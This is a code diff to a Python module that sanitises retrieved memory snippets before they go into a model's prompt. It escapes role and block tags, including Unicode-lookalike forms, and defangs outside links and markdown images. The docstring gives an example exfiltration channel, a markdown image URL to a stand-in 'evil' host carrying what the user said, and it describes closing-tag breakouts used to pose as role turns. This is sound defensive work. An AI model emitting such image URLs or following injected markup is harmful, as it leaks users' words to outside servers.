@@ -3,7 +3,14 @@
 Gem text is data that came from transcripts, so whatever looks like markup that a prompt gives meaning to
 (``<memory_context>``, ``</system>``, ``<|im_start|>``, ``[INST]``) is shown with its brackets escaped in
 every format, and the prompt block escapes every ``<`` and ``>`` and keeps each gem on one line: no gem can
-close the block it is in, open another, or pass for a role turn.
+close the block it is in, open another, or pass for a role turn. Text is read through utils.normalise first
+(NFKC, no zero-width or bidi controls), so ``</memory_\\u200bcontext>``, fullwidth ``＜/memory_context＞`` and
+``<\\/memory_context>`` are escaped like the plain tag.
+
+Markdown images are fetched by the client that renders an answer, so an image (or a link) whose URL a
+model fills in is a channel out: ``![x](http://evil/?q=<what the user said>)``. No format shows a markdown
+image as one, and the prompt block shows a link to an outside address as its defanged host and path
+(``evil[.]example/track``, no query), so a model that repeats it makes neither a request nor a link.
 """
 
 from __future__ import annotations
@@ -18,19 +25,97 @@ from rich.markup import escape  # gem text is data: "[...]" in it is not rich ma
 
 from retrieve.search import Result
 from schemas import StoredGem
+from utils.normalise import GT_LOOKALIKES, LT_LOOKALIKES, normalise
 
-
+_LT = f"[<{LT_LOOKALIKES}]"
+_GT = f"[>{GT_LOOKALIKES}]"
+# A tag (also with a JSON-escaped slash, "<\/x>"), a special token, a Llama marker; and the opening of a
+# role or block tag even where its ">" is missing (a model still reads "</memory_context" as the close).
 _TAGLIKE = re.compile(
-    r"<(?:\s*/\s*)?[A-Za-z_!?][\w.:-]*(?:\s[^<>]*)?/?\s*>|<\|[^|<>\n]{0,40}\|>|<<\s*/?\s*SYS\s*>>|\[/?INST\]")
+    rf"{_LT}(?:\s*\\*/\s*)?[A-Za-z_!?][\w.:-]*(?:\s[^<>]*)?/?\s*{_GT}|<\|[^|<>\n]{{0,40}}\|>|<<\s*/?\s*SYS\s*>>|\[/?INST\]"
+    rf"|{_LT}(?:\s*\\*/\s*)?(?:memory_context|system|assistant|user|developer|instructions?|im_start|im_end)\b",
+    re.IGNORECASE)
+_ESCAPES = {"<": "&lt;", ">": "&gt;", "[": "&#91;", "]": "&#93;", **{c: "&lt;" for c in LT_LOOKALIKES},
+            **{c: "&gt;" for c in GT_LOOKALIKES}}
+_ESCAPE = re.compile("[" + re.escape("".join(_ESCAPES)) + "]")
+_MARKERS = re.compile(f"[<\\[{LT_LOOKALIKES}]")
 TEXT_FIELDS = ("gem", "context", "snippet")
+
+# ![alt](url "title") and [text](url "title"); a bare URL (scheme or "www."), up to a space or bracket.
+_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?(?:\s+[\"'(][^\n]*?[\"')])?\s*\)")
+_LINK = re.compile(r"\[([^\]\n]{0,300})\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?(?:\s+[\"'(][^\n]*?[\"')])?\s*\)")
+_URL = re.compile(r"\b(?:(?:https?|ftp|wss?)://|www\.)[^\s<>()\[\]{}\"'`]+", re.IGNORECASE)
+_URL_PARTS = re.compile(r"^(?:[a-z]+://)?(?:[^/?#@]*@)?(\[[^\]]*\]|[^/?#:]*)(:\d+)?([^?#]*)", re.IGNORECASE)
+# Addresses on the person's own machine or network: a link there carries nothing out.
+_LOCAL_HOST = re.compile(
+    r"^(?:localhost|.*\.(?:localhost|local|internal|lan|home\.arpa|test)|127(?:\.\d+){3}|10(?:\.\d+){3}"
+    r"|192\.168(?:\.\d+){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d+){2}|0\.0\.0\.0|\[::1?\])$", re.IGNORECASE)
 
 
 def neutralise(text: str) -> str:
-    """Tag-like text with its brackets escaped (``<memory_context>`` -> ``&lt;memory_context&gt;``)."""
-    if "<" not in text and "[" not in text:
+    """Tag-like text with its brackets escaped (``<memory_context>`` -> ``&lt;memory_context&gt;``), read
+    through utils.normalise first; markdown images shown as words (every format)."""
+    text = normalise(text)
+    if "![" in text:
+        text = _IMAGE.sub(_image_words, text)
+    if not _MARKERS.search(text):
         return text
-    return _TAGLIKE.sub(lambda m: m.group(0).replace("<", "&lt;").replace(">", "&gt;").replace("[", "&#91;")
-                        .replace("]", "&#93;"), text)
+    return _TAGLIKE.sub(lambda m: _ESCAPE.sub(lambda c: _ESCAPES[c.group(0)], m.group(0)), text)
+
+
+def _host_path(url: str) -> tuple[str, str]:
+    m = _URL_PARTS.match(url.strip())
+    if m is None:
+        return "", ""
+    return m.group(1).lower(), m.group(3).rstrip("/.,;:!?")
+
+
+def is_outside(url: str) -> bool:
+    """Does the URL lead off the person's machine and network (a relative path or a local address does not)?"""
+    if not re.match(r"(?:[a-z][a-z0-9+.-]*:|//|www\.)", url.strip(), re.IGNORECASE):
+        return False  # a relative link, an anchor
+    if re.match(r"(?:mailto|tel|file|data):", url.strip(), re.IGNORECASE):
+        return False  # no request to an outside server (a data: image is dropped as every image is)
+    host, _ = _host_path(url)
+    return not _LOCAL_HOST.match(host)
+
+
+def defang(url: str) -> str:
+    """An outside URL as words a reader can still tell: host (dots bracketed) and path, no scheme or query."""
+    host, path = _host_path(url)
+    host = host[4:] if host.startswith("www.") else host
+    return host.replace(".", "[.]") + path
+
+
+def _image_words(m: re.Match[str]) -> str:
+    alt = " ".join(m.group(1).split())
+    host, _ = _host_path(m.group(2))
+    where = f" from {host.replace('.', '[.]')}" if host and is_outside(m.group(2)) else ""
+    return f"(image{': ' + alt if alt else ''}{where})"
+
+
+def _link_words(m: re.Match[str]) -> str:
+    text, url = m.group(1).strip(), m.group(2)
+    if not is_outside(url):
+        return m.group(0)
+    return f"{text} ({defang(url)})" if text else defang(url)
+
+
+def _url_words(m: re.Match[str]) -> str:
+    url = m.group(0).rstrip(".,;:!?")
+    tail = m.group(0)[len(url):]
+    return (defang(url) if is_outside(url) else url) + tail
+
+
+def prompt_text(text: str) -> str:
+    """Gem text as the prompt block shows it: one line, normalised, no markup, no outside link or image."""
+    text = " ".join(normalise(text).split())
+    if "](" in text:
+        text = _LINK.sub(_link_words, _IMAGE.sub(_image_words, text))
+    if "://" in text or "www." in text.lower():
+        text = _URL.sub(_url_words, text)
+    text = neutralise(text)
+    return text.replace("<", "&lt;").replace(">", "&gt;")  # data only: no tag survives, whatever its shape
 
 
 def safe(d: dict[str, Any]) -> dict[str, Any]:
@@ -56,7 +141,7 @@ def context_line(day: date, importance: str, gem: str, superseded: bool = False)
     """
     tags = ([] if importance == "medium" else [importance]) + (["superseded"] if superseded else [])
     tag = f" ({', '.join(tags)})" if tags else ""
-    text = " ".join(gem.split()).replace("<", "&lt;").replace(">", "&gt;")  # one line, no markup: data only
+    text = prompt_text(gem)
     return f"- [{day.isoformat()}]{tag} {text}"
 
 
